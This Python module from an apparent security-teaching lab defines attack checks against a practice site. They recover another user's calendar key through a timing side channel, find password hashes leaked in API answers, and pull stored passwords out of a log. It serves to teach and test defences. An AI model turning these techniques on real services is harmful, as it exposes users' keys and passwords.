"""Attacks beside the table: secrets that a comparison, a response or a log gives away."""

import json
import re
from collections.abc import Iterator

from labkit.attacks.leaked import walk_in
from labkit.catalogue import Verdict, attack, breached, held
from labkit.cracking import SecretNeeded, UnreadableStored, read
from labkit.practice.surface import Client, Site

HEX = "0123456789abcdef"
NO_DIGIT = "x"
MOST_FIELD = 1024  # characters; no stored password is longer
# A field of a line of the log: a word, or text in quotes.
_FIELD = re.compile(r'(\w+)=("(?:[^"\\]|\\.)*"|\S+)')


@attack("P9", "Read a key off the clock", start="Mallory's own account, with a calendar of its own")
def read_key_off_the_clock(site: Site) -> Verdict:
    """Mallory finds the key of Carol's calendar digit by digit: each right one costs a byte more.

    In process the compared bytes are counted. On a clock the same difference is some nanoseconds,
    and it takes many measurements to see it through the noise.
    """
    own, _, own_key = site.as_mallory().get("/api/calendar").json()["address"].rpartition("=")
    address = own.replace("mallory", "carol") + "="
    client, key = site.client("mallory"), ""
    for _ in own_key[1:]:
        costs = {key + d: _cost(site, client, address, key + d, len(own_key)) for d in HEX}
        if len(set(costs.values())) == 1:
            return held("Every wrong key costs the site the same.")
        key = max(costs, key=costs.__getitem__)
    for nth, digit in enumerate(HEX, 1):
        answer = client.get(address + key + digit)
        if answer.ok:
            tried = f"{16 * len(key) + nth} keys tried, of 16^{len(own_key)}"
            title = answer.text.partition("SUMMARY:")[2].partition("\r\n")[0]
            return breached(f"Mallory reads Carol's calendar: {title!r}.", cost=tried)
    return held("The times led to no key.")


@attack("P10a", "Look for a hash in the answers", start="Mallory's own account")
def find_hash_in_answer(site: Site) -> Verdict:
    """Mallory knows her own password, so she knows which field of an answer is its hash.

    It ends off line: what a hash is worth to her, the attacks on a leaked table tell.
    """
    mallory = site.as_mallory()
    me = mallory.get("/api/me").json()
    field = next((name for name, value in me.items() if _is_stored(value, site)), None)
    if field is None:
        return held("No field of Mallory's own answer was made from her password.")
    members = mallory.get("/api/messages").json()["members"]
    found = [each["name"] for each in members if field in each and each["name"] != "mallory"]
    if not found:
        return held("Mallory is shown her own stored password, and nobody else's.")
    return breached(f"The list of the class holds the {field} of {', '.join(found)}.")


@attack("P10b", "Read the log", start="Mallory's own account, and a copy of the log")
def read_log(site: Site) -> Verdict:
    """Mallory finds her own password in her own log-in's line, and Alice's at the same place."""
    site.as_mallory()
    site.victim("alice")
    lines = [dict(_fields(line)) for line in site.leak("log").values()]
    own = [line for line in lines if line.get("name") == "mallory"]
    places = {key for line in own for key in line if _is_stored(line[key], site)}
    found = {
        line["name"]: line[key]
        for line in lines
        for key in places & line.keys()
        if line.get("name") not in (None, "mallory")
    }
    if found and not any(site.mallory.password in line.values() for line in own):
        return breached(f"The log holds the stored password of {', '.join(found)}.")
    return walk_in(site, found, "passwords in the log")


def _cost(site: Site, client: Client, address: str, key: str, length: int) -> int:
    before = site.bytes_read
    client.get(address + key.ljust(length, NO_DIGIT))
    return site.bytes_read - before


def _is_stored(value: object, site: Site) -> bool:
    """Return whether the value is Mallory's password, or a hash of it."""
    if not isinstance(value, str) or not 0 < len(value) <= MOST_FIELD:
        return False
    try:
        return read(value).check(site.mallory.password)
    except (UnreadableStored, SecretNeeded):
        return False


def _fields(line: str) -> Iterator[tuple[str, str]]:
    for key, value in _FIELD.findall(line):
        yield key, str(json.loads(value)) if value.startswith('"') else value
